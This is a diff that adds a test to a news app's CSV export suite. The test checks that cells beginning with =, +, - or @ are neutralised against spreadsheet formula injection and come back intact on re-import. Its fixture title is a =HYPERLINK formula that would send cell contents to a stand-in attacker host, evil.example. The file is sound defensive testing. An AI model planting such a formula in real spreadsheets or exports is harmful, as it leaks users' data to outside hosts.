@@ -214,6 +214,47 @@ describe('export', () => {
     expect(refused.stderr).toMatch(/BAD_USER_INPUT/);
   });
 
+  it('defuses spreadsheet formulas in CSV cells, and an import of that CSV gives the values back', async () => {
+    const written = {
+      title: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+      url: 'https://formula.example/1',
+      source: '@Desk',
+      publishedAt: new Date('2026-04-04T04:04:04Z'),
+      priority: 2,
+      summary: "'=already marked",
+      description: '+61 2 5550 1234',
+      authors: [{ name: '-Minus Author' }, { name: 'Plain Author' }],
+    };
+    await upsertArticle(prisma, written, importer);
+    const exported = await yoga.fetch(
+      `http://newsgraph.test/export.csv?filter=${encodeURIComponent('{"source":{"equals":"@Desk"}}')}`,
+      { headers: as.editor },
+    );
+    const csv = await exported.text();
+    const file = path.join(work, 'formula.csv');
+    fs.writeFileSync(file, csv);
+    const [, row] = csv.split('\r\n');
+    // each text cell a spreadsheet would run starts with one more ': read as text, not run
+    expect(row).toMatch(
+      /^"'=HYPERLINK\(""https:\/\/evil\.example\/\?x=""&A1,""Click""\)",https:\/\/formula\.example\/1,'@Desk,/,
+    );
+    expect(row).toContain(`,'+61 2 5550 1234,''=already marked,"",'-Minus Author|Plain Author,`);
+    const env = await emptyDatabase({ migrated: true });
+    const imported = await command('import', [file], env);
+    expect(imported.stdout.trim().split('\n').at(-1)).toBe('created 1, updated 0, unchanged 0, rejected 0');
+    const [record] = (await command('export', [], env)).stdout
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line));
+    expect(record).toMatchObject({
+      title: written.title,
+      source: '@Desk',
+      summary: "'=already marked",
+      description: '+61 2 5550 1234',
+      authors: ['-Minus Author', 'Plain Author'],
+    });
+  });
+
   it('exports articles whose bodies together pass the text limit of one answer, in smaller pages', async () => {
     const body = 'long words '.repeat(40_000);
     await prisma.article.createMany({
